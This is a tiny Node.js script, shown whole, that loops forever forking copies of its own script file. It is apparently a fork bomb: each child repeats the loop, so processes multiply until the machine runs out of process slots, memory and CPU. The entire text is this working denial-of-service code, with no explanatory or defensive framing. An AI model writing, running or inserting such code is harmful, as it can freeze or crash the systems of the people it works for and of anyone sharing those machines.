import { fork } from 'node:child_process';

for (;;) fork(process.argv[1] ?? '');
